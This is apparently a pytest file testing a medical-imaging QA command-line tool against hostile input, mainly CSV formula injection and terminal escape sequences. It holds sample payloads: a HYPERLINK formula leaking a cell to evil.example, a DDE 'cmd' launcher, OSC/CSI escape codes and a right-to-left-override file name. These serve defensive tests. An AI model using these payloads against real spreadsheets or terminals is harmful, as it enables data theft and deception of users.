"""Runs and terminals under hostile or unlucky conditions: a run scored against a rebuilt
dataset, untrusted text printed to the terminal, SIGTERM during parallel work, two evals on
one run folder, and spreadsheet formulas in CSV cells."""

from __future__ import annotations

import shutil
from pathlib import Path

from typer.testing import CliRunner

from voxqa.cli import app

runner = CliRunner()


def _one_line_error(res, *needles: str) -> None:
    assert res.exit_code == 2, (res.exit_code, res.output)
    assert res.exception is None or isinstance(res.exception, SystemExit), repr(res.exception)
    assert "Traceback" not in res.output
    flat = " ".join(res.output.split())
    assert flat.startswith("error:"), res.output
    for needle in needles:
        assert needle in flat, (needle, res.output)


def _build(src: Path, out: Path, seed: int) -> None:
    from voxqa.build import build_fastmri_plus
    from voxqa.render import RenderSettings, render_dataset

    build_fastmri_plus([(src / "annotations.csv", src / "file_list.csv")], out, volumes=src / "volumes",
                       seed=seed, fractions=(0.5, 0.25, 0.25))
    render_dataset(out, RenderSettings(size=64, context=4))


def test_a_run_is_not_scored_against_a_rebuilt_dataset(tmp_path) -> None:
    """Defect: score, compare and report read the dataset as it is now, never checking run.json's
    dataset hash: after a rebuild with another seed, the oracle's run scored 0.86 instead of 1.00
    (and compare showed the stale results.json)."""
    from voxqa.eval.run import dataset_hash
    from voxqa.phantom import write_phantom

    src = write_phantom(tmp_path / "src", n=8, seed=3)["volumes"].parent
    ds, run = tmp_path / "ds", tmp_path / "run"
    _build(src, ds, seed=0)
    res = runner.invoke(app, ["eval", str(ds), "--model", "oracle", "--out", str(run), "--split", "all"])
    assert res.exit_code == 0, res.output
    assert "'accuracy': 1.0" in res.output
    asked = dataset_hash(ds)

    shutil.rmtree(ds)
    _build(src, ds, seed=1)  # the same folder, rebuilt with another split seed
    now = dataset_hash(ds)
    assert now != asked
    results = (run / "results.json").read_bytes()
    board, page = tmp_path / "board.md", tmp_path / "r.html"
    for args in (["score", str(run)], ["score", str(run), "--allow-incomplete"],
                 ["compare", str(run)], ["compare", str(run), "--out", str(board)],
                 ["report", str(run), "--out", str(page)]):
        _one_line_error(runner.invoke(app, args), f"error: {run}:", f"{ds} with items.jsonl sha256 {asked[:12]}",
                        f"{ds / 'items.jsonl'} now has sha256 {now[:12]}", "rebuilt or re-rendered")
    assert (run / "results.json").read_bytes() == results  # the old scores are not overwritten
    assert not board.exists() and not page.exists()


def test_compare_csv_cells_never_start_a_formula(tmp_path) -> None:
    """Defect: `compare --out board.csv` wrote a run named ``=HYPERLINK(...)`` (run.json's model
    spec) as a cell a spreadsheet runs as a formula."""
    import csv
    import json

    from helpers import rendered_phantom

    ds = rendered_phantom(tmp_path, n=6, seed=2, size=64, context=4)
    hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)", "+cmd|' /C calc'!A0",
               "-2+3", "\tindent", "\r=1"]
    runs = []
    for n, spec in enumerate(hostile):
        run = tmp_path / f"run{n}"
        res = runner.invoke(app, ["eval", str(ds), "--model", "oracle", "--out", str(run), "--split", "all",
                                  "--limit", "3"])
        assert res.exit_code == 0, res.output
        meta = json.loads((run / "run.json").read_text())
        meta["identity"]["model"]["spec"] = spec  # a run folder received from someone else
        (run / "run.json").write_text(json.dumps(meta))
        (run / "results.json").unlink()  # rescored with the crafted name
        runs.append(str(run))
    board = tmp_path / "board.csv"
    res = runner.invoke(app, ["compare", *runs, "--out", str(board)])
    assert res.exit_code == 0, res.output
    rows = list(csv.reader(board.open(newline="")))
    names = [r[0] for r in rows[2:]]
    assert names == ["'" + h.replace("\r", " ") + " · minimal" for h in hostile], names  # one row each
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for c in r)
    assert rows[2][5].startswith("1.000 [")  # numbers and intervals as before


def test_spreadsheet_safe_keeps_plain_numbers() -> None:
    from voxqa.eval.compare import spreadsheet_safe

    for number in ("-0.25", "+3", "-1e-3", "0.5", "", "oracle · minimal", "1.000 [0.5, 1.0]"):
        assert spreadsheet_safe(number) == number
    for formula in ("=1+1", "-1+2", "+A1", "@SUM(A1)", "\t=1", "\r=1", "-", " =1", "\tindent"):
        assert spreadsheet_safe(formula) == "'" + formula


# ---------------------------------------------------------------- untrusted text on the terminal

ESC_TITLE = "\x1b]0;PWNED\x07\x1b[31m"  # OSC: retitle the window; CSI: recolour


def _no_control_sequences(output: str) -> None:
    assert "\x1b" not in output and "\x07" not in output and "\u202e" not in output, repr(output)
    assert "Traceback" not in output and "MarkupError" not in output, output


def test_inspect_shows_hostile_labels_literally(tmp_path) -> None:
    """Defect: `inspect` crashed on a label ``Effusion [/oops]`` (rich markup), dropped
    ``[grade 2]`` from another as a style, and wrote ESC/OSC sequences from labels raw."""
    from voxqa.build import build_fastmri_plus
    from voxqa.phantom import write_phantom

    src = write_phantom(tmp_path / "src", n=8, seed=3)
    csv = src["annotations"]
    text = csv.read_text()
    text = (text.replace("Joint Effusion ", "Effusion [/oops]").replace("Meniscus Tear", "Meniscus Tear [grade 2]")
            .replace("Periarticular cysts", f"Cyst {ESC_TITLE}red\u202e"))
    csv.write_text(text)
    build_fastmri_plus([(csv, src["file_list"])], tmp_path / "ds", volumes=src["volumes"], fractions=(0.5, 0.25, 0.25))
    res = runner.invoke(app, ["inspect", str(tmp_path / "ds")], env={"COLUMNS": "250"})
    assert res.exit_code == 0, res.output
    _no_control_sequences(res.output)
    for label in ("Effusion [/oops]", "Meniscus Tear [grade 2]", "Cyst \\x1b]0;PWNED\\x07\\x1b[31mred\\u202e"):
        assert f"│ {label} " in res.output, (label, res.output)


def test_check_reports_prints_hostile_sentences_literally(tmp_path) -> None:
    """Defect: `check-reports` crashed on a contradicted sentence containing ``[/bold]`` (a
    traceback with exit code 1, which means "contradictions found"), and wrote ESC/OSC
    sequences from report text raw."""
    import json

    from voxqa.phantom import write_segmentation_phantom

    s = write_segmentation_phantom(tmp_path / "src")
    studies = tmp_path / "studies.csv"
    studies.write_text("study_id,image,labels,label_names,patient_id,modality\n"
                       f"en,{s['image']},{s['labels']},{s['label_names']},p1,CT\n")
    reports = tmp_path / "reports.jsonl"
    text = f"The spleen is located on the right [/bold]. Status post splenectomy {ESC_TITLE}\u202egnp.exe."
    reports.write_text(json.dumps({"study_id": "en", "language": "en", "text": text}) + "\n")
    res = runner.invoke(app, ["check-reports", "--studies", str(studies), "--reports", str(reports)])
    assert res.exit_code == 1, res.output  # contradictions found, and nothing else
    assert res.exception is None or isinstance(res.exception, SystemExit), repr(res.exception)
    _no_control_sequences(res.output)
    flat = " ".join(res.output.split())
    assert '"The spleen is located on the right [/bold]."' in flat, flat
    assert '"Status post splenectomy \\x1b]0;PWNED\\x07\\x1b[31m\\u202egnp.exe."' in flat, flat
    assert "2 claims: 0 supported, 2 contradicted, 0 unverifiable" in flat


def test_server_text_in_an_error_reaches_the_terminal_literally(tmp_path) -> None:
    """Defect: the model list of a server (in the 'not served' error) reached the terminal with
    its escape sequences."""
    from helpers import rendered_phantom
    from openai_stub import StubServer

    ds = rendered_phantom(tmp_path, n=4, seed=2, size=48, context=2)
    served = f"evil{ESC_TITLE}[/bold][red]"
    with StubServer(lambda content: "yes", models=[served]) as srv:
        res = runner.invoke(app, ["eval", str(ds), "--model", "openai:m", "--base-url", srv.url, "--split", "all",
                                  "--out", str(tmp_path / "run")])
        assert not srv.requests
    _one_line_error(res, "is not served by", "evil\\x1b]0;PWNED\\x07\\x1b[31m[/bold][red]")
    _no_control_sequences(res.output)


def test_printable_and_markup_safe() -> None:
    from voxqa.views.terminal import markup_safe, printable

    assert printable("a\tb\nc") == "a\tb\nc"
    assert printable("a\tb\nc\r", one_line=True) == "a\\tb\\nc\\r"
    assert printable("\x00\x1b\x7f\x9b\u2066ok") == "\\x00\\x1b\\x7f\\x9b\\u2066ok"
    assert printable("Grüße, 肝臓 ✓") == "Grüße, 肝臓 ✓"  # text is shown as written
    from rich.console import Console

    console = Console(record=True, width=200)
    hostile = "x [/bold] [grade 2] [@click=a] \\[b] c:\\"
    console.print(f"[red]{markup_safe(hostile)}[/]")  # inside a tag, as the commands print it
    assert console.export_text() == "x [/bold] [grade 2] [@click=a] \\[b] c:\\\n"
